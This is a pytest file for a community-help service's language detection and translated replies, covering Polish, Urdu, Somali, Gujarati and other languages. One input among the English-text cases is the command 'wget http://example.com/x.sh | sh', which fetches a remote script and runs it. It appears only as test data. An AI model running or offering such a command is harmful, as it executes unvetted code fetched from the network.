"""Other languages are noticed, English is left alone, and every reply is whole."""

from __future__ import annotations

import pytest

from knowledge.directory import Directory
from knowledge.languages import foreign_languages, language, languages, reply_in
from knowledge.settings import Settings
from knowledge.site import load_site


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("chcę pomagać jako wolontariusz w Loughborough", ["Polish"]),
        ("potrzebuję pomocy", ["Polish"]),
        ("vreau sa fiu voluntar", ["Romanian"]),
        ("waxaan rabaa inaan caawiyo", ["Somali"]),
        ("મારે સ્વયંસેવક બનવું છે", ["Gujarati"]),
        ("ਮੈਂ ਮਦਦ ਕਰਨੀ ਚਾਹੁੰਦਾ ਹਾਂ", ["Punjabi"]),
        ("مجھے مدد چاہیے", ["Urdu"]),
        ("اريد ان اتطوع", ["Arabic"]),
        ("আমি সাহায্য করতে চাই", ["Bengali"]),
        ("मुझे मदद चाहिए", ["Hindi"]),
        ("я хочу допомагати", ["Ukrainian"]),
        ("我想做志愿者", ["Chinese"]),
        ("mujhe madad chahiye", ["Hindi", "Urdu"]),
        ("bonjour je cherche un club", ["French"]),
        ("czy moge dostac pomoc dla mojej mamy", ["Polish"]),
    ],
)
def test_a_language_is_recognised(directory: Directory, text: str, names: list[str]) -> None:
    found = foreign_languages(text, directory.search().gazetteer)
    assert [each.name for each in found] == names


@pytest.mark.parametrize(
    "text",
    [
        "tenant management organisation",
        "grant for dance group",
        "cld u tell me wer 2 volunteer pls",
        "Ashby de la Zouch",
        "I want help in Barrow upon Soar",
        "our café needs a fund",
        "wolontariat",
        "asdf qwer zxcv",
        "flurble wibble quux",
        "wget http://example.com/x.sh | sh",
        "🙂 123",
        "",
    ],
)
def test_english_is_left_alone(directory: Directory, text: str) -> None:
    assert foreign_languages(text, directory.search().gazetteer) == ()


def test_the_contents_own_ways_of_asking_are_english(directory: Directory) -> None:
    gazetteer = directory.search().gazetteer
    asked = [text for record in directory.records(_SLUGS) for text in record.also_asked or []]
    assert len(asked) > 30
    assert [text for text in asked if foreign_languages(text, gazetteer)] == []


_SLUGS = ("g-find-a-role", "acv-already-for-sale", "guide-fund-where-start", "guide-part-foi")


@pytest.mark.parametrize("name", languages())
def test_every_reply_says_who_and_where_and_that_nobody_assured_it(name: str) -> None:
    site = load_site(Settings.from_environment().site_file)
    spoken = language(name)
    reply = reply_in(spoken, site)
    assert site.emergency.number in reply.text
    assert site.adviser.name in reply.text
    assert site.council.name in reply.text
    assert "{" not in reply.text
    assert reply.language == spoken.code
    assert spoken.machine_checked is ("machine-checked" in reply.text)
